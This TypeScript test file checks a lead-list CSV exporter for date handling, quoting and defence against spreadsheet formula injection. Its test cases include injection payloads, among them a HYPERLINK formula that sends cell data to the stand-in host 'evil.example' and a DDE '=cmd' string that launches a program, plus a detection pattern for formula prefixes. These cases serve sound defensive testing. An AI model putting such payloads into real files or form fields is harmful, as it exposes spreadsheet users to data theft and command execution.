import fc from "fast-check";
import { expect, onTestFinished, test, vi } from "vitest";
import { formatShortDay } from "#app/desk/dashboard/day-chart.tsx";
import { EVERY_LEAD } from "#app/desk/lead-shared/lead-filter.ts";
import type { ExportedLead } from "#app/desk/lead-shared/lead-list-store.server.ts";
import { formatAgo } from "#app/desk/ui/time-ago.tsx";
import { formatMoment } from "#app/site/brisbane-time.ts";
import { propertyRuns } from "#tests/setup/property-runs.ts";
import { listActiveFilters } from "./filter-chips.tsx";
import { listMonths } from "./filter-form.tsx";
import { csvFileName, csvStart, renderCsvRow as renderRow } from "./lead-csv.ts";

const renderCsvRow = (row: ExportedLead) => renderRow(row, "https://agency.example");

const lead: ExportedLead = {
	id: 7,
	website: "https://reef.example/a,b",
	businessName: 'The "Reef" Café',
	contactName: "Nguyễn O'Brien",
	email: "a@b.example",
	phone: "(07) 3123 4567",
	packageName: null,
	source: "hire_us",
	status: "won",
	flagged: false,
	delivery: "sent",
	earlierLeadId: null,
	companyName: "Reef Tours",
	score: 71,
	reportId: "5b0c2a3e-6d1f-4a43-9b0e-7c1f6d2f8a11",
	notes: "Rang at noon.\nCall back.",
	laterLeadId: null,
	companyId: null,
	isClient: false,
	isReplyUnsent: false,
	keywords: "coffee\r\nbreakfast; tea",
	startDate: "2026-12-01",
	createdAt: "2026-11-14T14:04:05.678Z",
	repliedAt: "2026-11-15T00:00:00.000Z",
	referrerHost: "google.com.au",
	landingPath: "/blog",
	utmSource: "google",
	utmMedium: "cpc",
	utmCampaign: "=spring",
};

test("starts with the byte order mark and the header row", () => {
	expect(csvStart.charCodeAt(0)).toBe(0xfeff);
	expect(parseCsv(csvStart.slice(1))).toEqual([
		["Lead", "Received (Brisbane)", "Status", "Replied (Brisbane)", "Business", "Contact", "Email", "Website", "Package"].concat([
			"Keywords",
			"Preferred start",
			"Source",
			"Delivery",
			"Spam",
			"Earlier lead",
			"Phone",
			"Channel",
			"Referrer",
			"Landing page",
			"UTM source",
			"UTM medium",
			"UTM campaign",
			"Company",
			"Score",
			"Report",
			"Notes",
		]),
	]);
});

test("writes every field, with times in Queensland", () => {
	expect(parseCsv(renderCsvRow(lead))).toEqual([
		[
			"7",
			"2026-11-15 00:04:05",
			"Won",
			"2026-11-15 10:00:00",
			'The "Reef" Café',
			"Nguyễn O'Brien",
			"a@b.example",
			"https://reef.example/a,b",
			"",
			"coffee\r\nbreakfast; tea",
			"2026-12-01",
			"Hire us",
			"Sent",
			"no",
			"",
			"(07) 3123 4567",
			"Ads",
			"google.com.au",
			"/blog",
			"google",
			"cpc",
			"'=spring",
			"Reef Tours",
			"71",
			"https://agency.example/report/5b0c2a3e-6d1f-4a43-9b0e-7c1f6d2f8a11",
			"Rang at noon.\nCall back.",
		],
	]);
	expect(renderCsvRow(lead).endsWith("\r\n")).toBe(true);
});

test("writes labels for source and delivery, and the package only once", () => {
	const [row] = parseCsv(
		renderCsvRow({ ...lead, packageName: "Pro (SEO)", keywords: "coffee [Package: Pro (SEO)]", source: "get_started", delivery: "failed" }),
	);
	expect(row?.slice(8, 13)).toEqual(["Pro (SEO)", "coffee", "2026-12-01", "Get started", "Failed"]);
	const [other] = parseCsv(renderCsvRow({ ...lead, packageName: "B", keywords: "[Package: B] coffee", source: "hero", delivery: null }));
	expect(other?.slice(8, 13)).toEqual(["B", "[Package: B] coffee", "2026-12-01", "Free analysis", ""]);
});

test.each(["UTC", "America/New_York", "Pacific/Apia"])(
	"shows Brisbane time in the CSV and on the desk when the server runs in %s",
	(zone) => {
		vi.stubEnv("TZ", zone);
		onTestFinished(() => void vi.unstubAllEnvs());
		const received = "2026-11-14T14:04:05.678Z";
		const now = new Date("2026-11-30T14:30:00Z");
		// Midnight in Brisbane only: otherwise the zone of this process was not changed and the test proves nothing.
		expect(new Date(received).getHours()).not.toBe(0);
		expect(parseCsv(renderCsvRow({ ...lead, createdAt: received }))[0]?.slice(1, 4)).toEqual([
			"2026-11-15 00:04:05",
			"Won",
			"2026-11-15 10:00:00",
		]);
		expect(csvFileName(now)).toBe("leads-2026-12-01.csv");
		expect(formatMoment(received).replace(/\s/g, " ")).toBe("15 Nov 2026, 12:04 am");
		expect(formatAgo(received, now)).toBe("15 Nov 2026");
		expect(formatShortDay("2026-11-15")).toBe("Sun 15 Nov");
		expect(listActiveFilters({ ...EVERY_LEAD, from: "2026-11-01" })).toMatchObject([{ label: "From 1 November 2026" }]);
		expect(listMonths(now).thisMonth.from).toBe("2026-12-01");
	},
);

test.each([
	"=1+1",
	"+61 7 3000 0000",
	"-2+3",
	"@SUM(A1)",
	"\tx",
	"\rx",
	"\nx",
	"\u0000x",
	'=HYPERLINK("https://evil.example?"&A1,"Click")',
	"=cmd|' /C calc'!A0",
	"@home Cafe",
	"-",
	"＝1+1",
	"＋1",
	"－1",
	"＠x",
])("puts an apostrophe before the formula %j", (text) => {
	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: text, keywords: text }));
	expect([row?.[4], row?.[9]]).toEqual([`'${text}`, `'${text}`]);
});

test.each([
	"Joe;~=cmd|' /C calc'!A0",
	"Joe; ~=1",
	"Joe,~-5%",
	"Joe\t~@SUM(A1)",
	"Joe|~+1",
	"Joe:~=1",
	"Joe\r\n~=1",
	"Joe\u2028~=1",
	'Joe;"~=1',
	'Joe;" "~=1',
	"Joe;\u200b~=1",
	"Joe;\ufeff~＝1",
	"Joe ~=1",
	"Joe ~=",
	"Joe;~=1;~=2",
	" ~=1+1",
	"\u00a0~=1+1",
	'"~=1+1"',
	' "~+1',
	"\u200b~=1+1",
	"\ufeff~=1+1",
	"\u202e~=1+1",
])("neutralises a formula wherever a spreadsheet could start a cell: %j", (marked) => {
	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: marked.replaceAll("~", "") }));
	expect(row?.[4]).toBe(marked.replaceAll("~", "'"));
});

test.each([
	"Reef Café",
	"a=b",
	"1-2-3 Plumbing",
	"O'Brien",
	"'quoted",
	"50% off",
	"https://a.example/?a=-1",
	"",
	"Reef Café - Brisbane",
	"salt & pepper; fish, chips",
	"https://social.example/@reef",
	"50 - 60 covers",
])("leaves the harmless text %j unchanged", (text) => {
	expect(parseCsv(renderCsvRow({ ...lead, businessName: text }))[0]?.[4]).toBe(text);
});

const hostileText = fc.string({ unit: fc.constantFrom(..."=+-@ \t\r\n,;:|\"'a＝🦘\u0000\u200b\u00a0") });

test("always writes one row of as many fields as the header and adds nothing but apostrophes", () => {
	fc.assert(
		fc.property(hostileText, hostileText, (businessName, keywords) => {
			const rows = parseCsv(renderCsvRow({ ...lead, businessName, keywords }));
			expect(rows).toHaveLength(1);
			expect(rows[0]).toHaveLength(parseCsv(csvStart.slice(1))[0]?.length ?? 0);
			expect([rows[0]?.[4], rows[0]?.[9]].map(withoutApostrophes)).toEqual([businessName, keywords].map(withoutApostrophes));
		}),
	);
});

test("leaves no formula for any separator, whether or not quotes are respected", () => {
	fc.assert(
		fc.property(hostileText, hostileText, hostileText, (businessName, contactName, keywords) => {
			const line = renderCsvRow({ ...lead, businessName, contactName, keywords });
			for (const separator of [",", ";", "\t", "|", ":", " ", '"']) {
				for (const respectsQuotes of [true, false]) {
					const formulas = splitCells(line, { separator, respectsQuotes }).filter(isFormula);
					expect(formulas, JSON.stringify({ separator, respectsQuotes, line })).toEqual([]);
				}
			}
		}),
		{ numRuns: propertyRuns(300) },
	);
});

// Takes milliseconds. A regular expression with quadratic run time would exceed the test's time limit.
test.each([" ", '"', '" ', "\t", ' "=', "\u200b "])("renders 200,000 repetitions of %j without backtracking", (unit) => {
	expect(renderCsvRow({ ...lead, keywords: `a${unit.repeat(200_000)}=` })).toMatch(/=",/);
});

test("names the file after the day in Queensland", () => {
	expect(csvFileName(new Date("2026-11-14T14:00:00Z"))).toBe("leads-2026-11-15.csv");
	expect(csvFileName(new Date("2026-11-14T13:59:59Z"))).toBe("leads-2026-11-14.csv");
});

/** Parses CSV strictly by RFC 4180 and throws on anything else. */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let rest = text;
	while (rest !== "") {
		const [whole = "", quoted, bare, end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
		if (whole === "") throw new Error(`not RFC 4180: ${JSON.stringify(rest.slice(0, 40))}`);
		row.push(quoted?.replaceAll('""', '"') ?? bare ?? "");
		if (end === "\r\n") {
			rows.push(row);
			row = [];
		}
		rest = rest.slice(whole.length);
	}
	return rows;
}

/** The cells a spreadsheet would make of the text. Quotes count only at the start of a cell, as in Excel and LibreOffice. */
function splitCells(text: string, { separator, respectsQuotes }: { separator: string; respectsQuotes: boolean }): string[] {
	if (!respectsQuotes) return text.split(/\r\n|[\r\n\u2028\u2029\u0085\v\f]/).flatMap((line) => line.split(separator));
	const cells: string[] = [];
	let cell = "";
	let isQuoted = false;
	let isStart = true;
	for (let at = 0; at < text.length; at += 1) {
		const character = text[at] ?? "";
		if (isQuoted && character === '"' && text[at + 1] === '"') {
			cell += '"';
			at += 1;
		} else if (isQuoted && character === '"') isQuoted = false;
		else if (isStart && character === '"') [isQuoted, isStart] = [true, false];
		else if (!isQuoted && [separator, "\r", "\n"].includes(character)) {
			cells.push(cell);
			[cell, isStart] = ["", true];
		} else [cell, isStart] = [cell + character, false];
	}
	return [...cells, cell];
}

/** Spaces, quotes and invisible characters are skipped, as some spreadsheets do. A sign on its own is text everywhere. */
function isFormula(cell: string): boolean {
	return /^[\s\p{Cf}"]*[=+\-@＝＋－＠](?!\s*$)/u.test(cell);
}

function withoutApostrophes(text: string | undefined): string {
	return (text ?? "").replaceAll("'", "");
}
